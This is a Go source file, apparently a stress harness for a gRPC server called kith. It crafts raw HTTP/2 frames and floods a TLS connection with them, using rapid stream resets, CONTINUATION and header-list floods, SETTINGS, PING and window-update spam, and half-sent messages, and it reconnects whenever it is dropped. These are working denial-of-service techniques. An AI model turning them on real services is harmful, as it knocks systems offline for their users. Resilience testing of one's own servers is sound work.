package flood

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"

	kithv1 "kith/proto/gen/kith/v1"
)

// Frames of HTTP/2.
const (
	dataFrame, headersFrame, priorityFrame, resetFrame, settingsFrame = 0, 1, 2, 3, 4
	pingFrame, windowFrame, continuationFrame                         = 6, 8, 9
	endStream, endHeaders                                             = 1, 4
)

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// callHeaders is a header block without any compression.
func callHeaders(path string) (block []byte) {
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "a"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		block = append(append(block, 0, byte(len(h[0]))), h[0]...)
		block = append(append(block, byte(len(h[1]))), h[1]...)
	}
	return block
}

// resets begins calls and takes them back.
func resets(b []byte, stream uint32) []byte {
	b = appendFrame(b, headersFrame, endHeaders, stream, callHeaders(kithv1.PeerService_Connect_FullMethodName))
	return appendFrame(b, resetFrame, 0, stream, []byte{0, 0, 0, 8})
}

func pings(b []byte, stream uint32) []byte {
	return appendFrame(b, pingFrame, 0, 0, binary.BigEndian.AppendUint64(nil, uint64(stream)))
}

// calls begins calls that have no request.
func calls(b []byte, stream uint32) []byte {
	return appendFrame(b, headersFrame, endStream|endHeaders, stream, callHeaders(kithv1.JobService_SubmitJob_FullMethodName))
}

// settings changes the window of all streams, as often as fits a frame.
func settings(b []byte, stream uint32) []byte {
	one := binary.BigEndian.AppendUint32([]byte{0, 4}, stream) // SETTINGS_INITIAL_WINDOW_SIZE
	return appendFrame(b, settingsFrame, 0, 0, bytes.Repeat(one, (16<<10)/len(one)))
}

func windows(b []byte, _ uint32) []byte {
	return appendFrame(b, windowFrame, 0, 0, []byte{0, 0, 0, 1})
}

func priorities(b []byte, stream uint32) []byte {
	return appendFrame(b, priorityFrame, 0, stream, []byte{0, 0, 0, 0, 1})
}

// continuations begins one header list and goes on with nothing.
func continuations(b []byte, stream uint32) []byte {
	if stream == 1 {
		return appendFrame(b, headersFrame, 0, 1, callHeaders(kithv1.JobService_SubmitJob_FullMethodName))
	}
	return appendFrame(b, continuationFrame, 0, 1, nil)
}

// emptyData begins a stream and sends nothing on it.
func emptyData(b []byte, stream uint32) []byte {
	if stream == 1 {
		return appendFrame(b, headersFrame, endHeaders, 1, callHeaders(kithv1.PeerService_Connect_FullMethodName))
	}
	return appendFrame(b, dataFrame, 0, 1, nil)
}

// uncalled begins a call that is refused, and goes on with its data.
func uncalled(b []byte, stream uint32) []byte {
	if stream == 1 {
		return appendFrame(b, headersFrame, endHeaders, 1, callHeaders(kithv1.JobService_SubmitJob_FullMethodName))
	}
	return appendFrame(b, dataFrame, 0, 1, make([]byte, 16<<10))
}

// pieces begins a frame of 16 KiB after another, and sends the bytes one at a time.
func pieces(b []byte, stream uint32) []byte {
	const length = 16 << 10
	if stream == 1 {
		b = emptyData(b, stream)
	}
	if stream/2%length == 0 {
		return append(b, appendFrame(nil, dataFrame, 0, 1, make([]byte, length-1))[:9]...)
	}
	return append(b, 0)
}

// headerLists begins a header list and goes on with it for 1 MiB.
func headerLists(b []byte, stream uint32) []byte {
	b = appendFrame(b, headersFrame, 0, stream, callHeaders(kithv1.JobService_SubmitJob_FullMethodName))
	filler := append([]byte{0, 1, 'x', 127, 0x80, 0x60}, make([]byte, 127+0x3000-128)...) // one header of 12 KiB
	for range 80 {
		b = appendFrame(b, continuationFrame, 0, stream, filler)
	}
	return b
}

// halfRequests begins a message of 4 MiB and sends as much of it as fits a stream.
func halfRequests(b []byte, stream uint32) []byte {
	b = appendFrame(b, headersFrame, endHeaders, stream, callHeaders(kithv1.PeerService_Connect_FullMethodName))
	b = appendFrame(b, dataFrame, 0, stream, []byte{0, 0, 0x40, 0, 0})
	for range 3 {
		b = appendFrame(b, dataFrame, 0, stream, make([]byte, 16<<10))
	}
	return b
}

// inWrite is how many bytes of frames make a record of TLS.
const inWrite = 8 << 10

// raw sends frames on a connection, a stream after another and so many bytes at a time, and
// comes back whenever it is thrown out.
func (f *Flood) raw(alpn string, inWrite int, call func(b []byte, stream uint32) []byte) {
	once := func() {
		raw, err := f.dial()
		if err != nil {
			return
		}
		defer raw.Close()                                        //nolint:errcheck // a flood's
		defer context.AfterFunc(f.ctx, func() { raw.Close() })() //nolint:errcheck // a flood's
		conn := tls.Client(raw, f.shows(alpn))
		if conn.HandshakeContext(f.ctx) != nil {
			return
		}
		f.wg.Go(func() {
			sink := make([]byte, 32<<10)
			for {
				if _, err := conn.Read(sink); err != nil {
					raw.Close() //nolint:errcheck // it was thrown out
					return
				}
			}
		})
		b := appendFrame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0, nil)
		var gathered int64
		for stream := uint32(1); stream < 1<<30 && f.passed(1); stream += 2 {
			b = call(b, stream)
			if gathered++; len(b) < inWrite {
				continue
			}
			if _, err := conn.Write(b); err != nil {
				return
			}
			f.sent.Add(gathered)
			b, gathered = b[:0], 0
		}
	}
	for range 2 {
		f.goes(once)
	}
}
